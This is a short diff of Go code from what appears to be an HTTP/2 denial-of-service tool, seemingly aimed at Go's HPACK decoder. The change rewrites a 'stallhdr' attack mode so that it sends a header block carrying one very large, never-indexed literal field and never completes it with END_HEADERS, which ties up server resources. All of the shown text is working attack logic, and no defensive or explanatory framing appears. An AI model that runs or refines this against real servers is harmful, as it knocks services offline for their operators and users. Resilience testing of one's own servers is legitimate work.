@@ -69,10 +69,15 @@ func attack(tc *tls.Conn, c *config, s *stats) {
 		for h.alive(c.end) && h.request(c, s, big) {
 		}
 	case "stallhdr":
-		// A block of size updates (a table of size 0), which decodes to
-		// nothing and which Go's decoder takes anywhere while its table
-		// is empty, stopped before its end.
-		if h.sendBlock(h.sid(), bytes.Repeat([]byte{0x20}, c.hsize), false) {
+		// One literal field of -hsize bytes, never indexed, in a block
+		// whose END_HEADERS never comes.
+		h.hb.Reset()
+		for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
+			{Name: ":authority", Value: c.addr}, {Name: ":path", Value: c.path},
+			{Name: "x-big", Value: strings.Repeat("b", c.hsize), Sensitive: true}} {
+			_ = h.enc.WriteField(f)
+		}
+		if h.sendBlock(h.sid(), h.hb.Bytes(), false) {
 			s.blocks.Add(1)
 			select {
 			case <-h.ended:
